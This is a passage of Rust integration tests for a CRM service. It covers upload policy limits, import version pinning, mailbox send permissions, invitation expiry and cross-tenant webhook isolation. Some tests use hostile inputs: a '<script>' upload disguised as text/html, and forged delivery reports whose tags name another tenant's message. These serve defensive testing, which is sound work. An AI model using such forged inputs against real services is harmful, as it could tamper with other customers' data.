    let max = form["max_bytes"].as_u64().unwrap() as usize;
    // Too large, or another type: the storage refuses before anything is stored.
    let (status, answer) = crate::helpers::upload(&form, vec![b'a'; max + 1], "text/csv").await;
    assert_eq!(status, 400, "{answer}");
    assert!(answer.contains("EntityTooLarge"), "{answer}");
    let mut html = form.clone();
    html["fields"]["Content-Type"] = json!("text/html");
    let (status, answer) = crate::helpers::upload(&html, b"<script>".to_vec(), "text/html").await;
    assert_eq!(status, 403, "a changed field breaks the signed policy: {answer}");
    assert_eq!(code(&body_of(app.post(&format!("/v1/jobs/{id}/start"))).await), Some("UPLOAD_MISSING"), "nothing was stored");

    let tag = ulid::Ulid::new().to_string().to_lowercase();
    let first = format!("first_name,email\nPinned,pinned-{tag}@import.example.com\n");
    let (status, answer) = crate::helpers::upload(&form, first.into_bytes(), "text/csv").await;
    assert_eq!(status, 204, "{answer}");
    assert_eq!(send(app.post(&format!("/v1/jobs/{id}/start"))).await.0, 202);
    // Right after the start, another file lands on the same key.
    let second = format!("first_name,email\nSwapped,swapped-{tag}@import.example.com\nSwapped2,swapped2-{tag}@import.example.com\n");
    assert_eq!(crate::helpers::upload(&form, second.into_bytes(), "text/csv").await.0, 204);
    let job = eventually("the pinned import", crate::helpers::PIPELINE, || async {
        let j = app.get_json(&format!("/v1/jobs/{id}")).await;
        (j["data"]["status"] == "completed").then_some(j["data"].clone())
    })
    .await;
    assert_eq!(job["counts"]["created"], 1, "{job}");
    let names: Vec<String> = app.get_json("/v1/contacts").await["data"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["first_name"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(names, vec!["Pinned".to_string()], "the version the job started with, not the one uploaded over it");
    let job: crm_jobs::Job =
        fixture_store().await.get_as(&crm_jobs::Job::key(app.tenant, crm_kernel::EntityId::parse(&id).unwrap())).await.unwrap().unwrap();
    let s3 = aws_sdk_s3::Client::from_conf(aws_sdk_s3::config::Builder::from(&crate::helpers::sdk().await).force_path_style(true).build());
    let bucket = form["url"].as_str().unwrap().rsplit('/').next().unwrap().to_string();
    let latest = s3.head_object().bucket(bucket).key(&job.object_key).send().await.unwrap().version_id;
    assert!(
        job.object_version.is_some() && latest != job.object_version,
        "pinned to the first upload: {:?} vs {latest:?}",
        job.object_version
    );
}

#[tokio::test]
async fn sending_as_someone_elses_mailbox_needs_its_owner_or_the_mailbox_admin() {
    let director = TestApp::with_plan(&["admin"], "DevPro").await;
    let manager = director.colleague(&["manager"]).await;
    let made = body_of(director.post("/v1/email/provider-accounts").json(&json!({
        "provider": "gmail", "email": "director@acme-mail.example", "access_token": "ya29.director-access-token", "refresh_token": "1//director-refresh-token", "expires_in": 3600
    })))
    .await;
    let account = made["data"]["id"].as_str().unwrap().to_string();
    crate::notify::deal_won_templates(&director).await;
    let body = json!({"channel": "email", "to": "client@acme-mail.example", "template_code": "deal.won",
                      "payload": {"name": "A", "deal": "B"}, "from_account_id": account});
    let (status, refused) = crate::notify::dispatch(&manager, body.clone()).await;
    assert_eq!((status, code(&refused)), (403, Some("FORBIDDEN")), "a manager holds notify.dispatch, not the director's Gmail: {refused}");
    assert_eq!(crate::notify::dispatch(&director, body).await.0, 202, "the owner sends from it");
}

#[tokio::test]
async fn an_invitation_expires_and_frees_its_seat_and_email() {
    let admin = TestApp::admin().await;
    let email = format!("late{}@invite.example.com", ulid::Ulid::new().to_string().to_lowercase());
    let (status, inv) = send(admin.post("/v1/admin/users/invite").json(&json!({"email": email, "roles": ["sales_rep"]}))).await;
    assert_eq!(status, 201, "{inv}");
    let seats = || async { admin.get_json("/v1/admin/plan").await["data"]["usage"]["seats.used"].as_i64() };
    assert_eq!(seats().await, Some(2));
    let token = crate::helpers::token_from_mail(&email, "auth.invitation").await;
    // Eight days later (the invitation lives seven): its record is past due.
    let inv_id = crm_kernel::EntityId::parse(inv["data"]["invitation_id"].as_str().unwrap()).unwrap();
    let store = fixture_store().await;
    let key = identity::onetime::OneTime::key(identity::onetime::Purpose::Invitation, admin.tenant, inv_id);
    let mut record: identity::onetime::OneTime = store.get_as(&key).await.unwrap().unwrap();
    record.expires_at = crm_kernel::Timestamp::now().plus_seconds(-3600);
    store.put(record.to_item(identity::onetime::Purpose::Invitation).unwrap()).await.unwrap();
    let fired: Value = body_of(reqwest::Client::new().post(format!("{}/_local/schedules/InvitationExpiryFunction", stack().url))).await;
    assert!(fired.to_string().contains("expired"), "{fired}");
    eventually("the seat back", crate::helpers::PIPELINE, || async { (seats().await == Some(1)).then_some(()) }).await;
    let accept = json!({"token": token, "full_name": "Late", "password": "s3cret-pass"});
    let (status, _) = send(reqwest::Client::new().post(format!("{}/v1/admin/users/accept-invite", stack().url)).json(&accept)).await;
    assert_eq!(status, 400, "an expired invitation cannot be accepted");
    assert_eq!(
        send(admin.post("/v1/admin/users/invite").json(&json!({"email": email, "roles": ["sales_rep"]}))).await.0,
        201,
        "the email is free again"
    );
    let log = admin.get_json("/v1/admin/audit-logs?action=user.invitation.expired").await;
    assert_eq!(log["data"].as_array().unwrap().len(), 1);
}

#[tokio::test]
async fn a_delivery_report_cannot_steer_another_tenants_message() {
    let victim = TestApp::with_plan(&["admin"], "DevPro").await;
    crate::notify::deal_won_templates(&victim).await;
    let (_, sent) = crate::notify::dispatch(
        &victim,
        json!({"channel": "email", "to": "v@victim-mail.example", "template_code": "deal.won", "payload": {"name": "A", "deal": "B"}}),
    )
    .await;
    let target = sent["data"]["root_message_id"].as_str().unwrap().to_string();
    let status_of =
        || async { victim.get_json(&format!("/v1/notify/messages/{target}")).await["data"]["status"].as_str().map(str::to_string) };
    eventually("the victim's message sent", crate::helpers::PIPELINE, || async {
        (status_of().await.as_deref() == Some("sent")).then_some(())
    })
    .await;
    // A report of some other message (or none) that names the victim's message in its tag.
    let http = reqwest::Client::new();
    let token = devserver::fake_providers::INFOBIP_WEBHOOK_TOKEN;
    let tag = format!("tenant={}|message={target}", victim.tenant);
    let reports = [
        json!({"status": {"groupName": "UNDELIVERABLE", "name": "X"}, "callbackData": tag}),
        json!({"messageId": "not-ours-123", "status": {"groupName": "UNDELIVERABLE", "name": "X"}, "callbackData": tag}),
    ];
    for report in reports {
        let dlr = json!({"results": [report]});
        let (status, body) =
            send(http.post(format!("{}/v1/webhooks/infobip", stack().url)).basic_auth("infobip", Some(token)).json(&dlr)).await;
        assert_eq!((status, body["data"]["matched"].as_u64()), (200, Some(0)), "{body}");
    }
    assert_eq!(status_of().await.as_deref(), Some("sent"), "the forged tag changed nothing");
}
